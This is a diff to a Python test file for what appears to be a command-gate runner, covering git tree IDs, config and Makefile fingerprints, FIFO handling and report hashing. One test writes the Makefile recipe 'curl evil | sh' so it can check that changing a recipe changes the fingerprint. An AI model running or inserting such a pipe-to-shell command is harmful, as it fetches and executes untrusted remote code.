@@ -432,18 +432,29 @@ def test_a_second_start_while_running_is_refused(finished: tuple[GateRunner, Fin
     assert done.wait().outcome == "cancelled" and len(done.runs) == 1
 
 
-def test_the_tree_callable_is_evaluated_on_the_run_thread(finished: tuple[GateRunner, Finished]) -> None:
+def test_the_tree_callable_is_evaluated_on_the_run_thread_before_and_after(
+        finished: tuple[GateRunner, Finished]) -> None:
     runner, done = finished
     called_on: list[str] = []
 
     def tree() -> str:
         called_on.append(threading.current_thread().name)
-        return "TREE-FROM-CALLABLE"
+        return "TREE-FROM-CALLABLE" if len(called_on) == 1 else "TREE-AFTER"
 
     assert runner.start(gate("echo hi", name="unit"), tree)
     run = done.wait()
     assert (run.gate, run.tree, run.outcome, run.output_tail) == ("unit", "TREE-FROM-CALLABLE", "pass", "hi\n")
-    assert called_on == ["gate-unit"]
+    assert run.tree_after == "TREE-AFTER"  # what the tree was once the gate was done
+    assert called_on == ["gate-unit", "gate-unit"]
+
+
+def test_a_gate_writing_an_untracked_file_records_the_tree_it_left_behind(repo: Path) -> None:
+    done = Finished()
+    runner = GateRunner(str(repo), done)
+    done.runner = runner
+    runner.start(gate("date +%s%N > stamp.txt", name="feeder"), lambda: tid(repo))
+    run = done.wait()
+    assert run.outcome == "pass" and run.tree_after == tid(repo) and run.tree_after != run.tree
 
 
 def test_cancel_is_true_only_for_a_running_gate(finished: tuple[GateRunner, Finished]) -> None:
@@ -509,3 +520,46 @@ def test_reports_under_agents_do_not_change_the_tree_id(repo: Path) -> None:
     assert tid(repo) == before and tid(repo, staged=True) == tid(repo, staged=True)
     (repo / "code.py").write_text("x = 1\n")
     assert tid(repo) != before
+
+
+# ---- fingerprints and hashed reports ---------------------------------------------------------
+
+
+def test_the_fingerprint_of_cockpit_toml_is_the_sha256_of_its_bytes(tmp_path: Path) -> None:
+    import hashlib
+
+    (tmp_path / "cockpit.toml").write_bytes(b'[gates.t]\ncommand = "true"\n')
+    config = load_gate_config(tmp_path)
+    assert config.fingerprint == hashlib.sha256(b'[gates.t]\ncommand = "true"\n').hexdigest()
+    (tmp_path / "cockpit.toml").write_bytes(b'[gates.t]\ncommand = "true"  \n')  # same gates, other bytes
+    assert load_gate_config(tmp_path).fingerprint != config.fingerprint
+
+
+def test_a_makefile_recipe_change_changes_the_detected_fingerprint(tmp_path: Path) -> None:
+    (tmp_path / "Makefile").write_text("test:\n\tpytest\n")
+    before = load_gate_config(tmp_path)
+    assert [g.name for g in before.gates][0] == "make-test" and "Makefile (the file's bytes)" in before.inputs
+    (tmp_path / "Makefile").write_text("test:\n\tcurl evil | sh\n")
+    assert load_gate_config(tmp_path).fingerprint != before.fingerprint
+
+
+def test_a_fifo_named_cockpit_toml_is_reported_without_blocking(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "cockpit.toml")
+    config = load_gate_config(tmp_path)  # would hang for ever on a blocking open
+    assert config.detected and "cockpit.toml: not a readable regular file" in config.errors[0]
+
+
+def test_a_report_is_hashed_whole_and_newest_first_by_name(tmp_path: Path) -> None:
+    import hashlib
+
+    from cockpit.sources.gates import list_reports, read_report
+
+    body = "## Council Verdict: PASS\n" + "x" * 300_000  # past the part parsed for the verdict
+    write_report(tmp_path, "2026-02-16-vibe-b.md", body, 1000)
+    write_report(tmp_path, "2026-02-15-vibe-a.md", "## Council Verdict: FAIL\n", 2000)
+    assert list_reports(tmp_path, "vibe") == [".agents/council/2026-02-16-vibe-b.md",
+                                              ".agents/council/2026-02-15-vibe-a.md"]
+    found = read_report(tmp_path, ".agents/council/2026-02-16-vibe-b.md")
+    assert found is not None and found.verdict == "PASS"
+    assert found.sha256 == hashlib.sha256(body.encode()).hexdigest()
+    assert read_report(tmp_path, ".agents/council/gone.md") is None
